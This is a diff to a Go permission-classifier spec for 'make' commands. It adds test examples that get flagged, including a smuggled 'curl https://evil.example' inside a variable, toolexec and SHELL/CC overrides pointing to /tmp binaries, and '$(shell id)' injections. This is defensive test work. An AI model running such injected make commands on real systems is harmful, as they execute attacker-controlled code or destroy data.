@@ -42,7 +42,9 @@ var makeSpec = &spec{grammar: gnuGrammar, rows: makeRows, operands: kWord, ask: 
 	examples: []example{
 		{"make --version", "allow"}, {"make -v", "allow"},
 		{"make", "ask+"}, {"make test", "ask+"}, {"make -j8 -k build test", "ask+"}, {"make -C sub all", "ask+"},
-		{"make -f Makefile.ci lint", "ask+"}, {"make CFLAGS=-O2 V=1 all", "ask+"}, {"make -n install", "ask+"},
+		{"make -f Makefile.ci lint", "ask+"}, {"make V=1 -j 4 all", "ask+"}, {"make CFLAGS=-O2 V=1 all", "ask!"},
+		{"make test 'TESTFLAGS=x; curl https://evil.example'", "ask!"}, {"make test GOFLAGS=-toolexec=/tmp/x", "ask!"}, {"make test GO=rm", "ask!"},
+		{"make test ROOT=", "ask!"}, {"make -n install", "ask+"},
 		{"make --eval='$(shell id)'", "ask!"}, {"make -E 'x:=$(shell id)' all", "ask!"}, {"make --ev=x all", "ask!"},
 		{"make SHELL=/tmp/x all", "ask!"}, {"make CC=/tmp/cc", "ask!"}, {"make 'V=$(shell id)'", "ask!"},
 		{"make 'V!=id'", "ask!"}, {"make .SHELLFLAGS=-c", "ask!"}, {"make -f .env", "deny"},
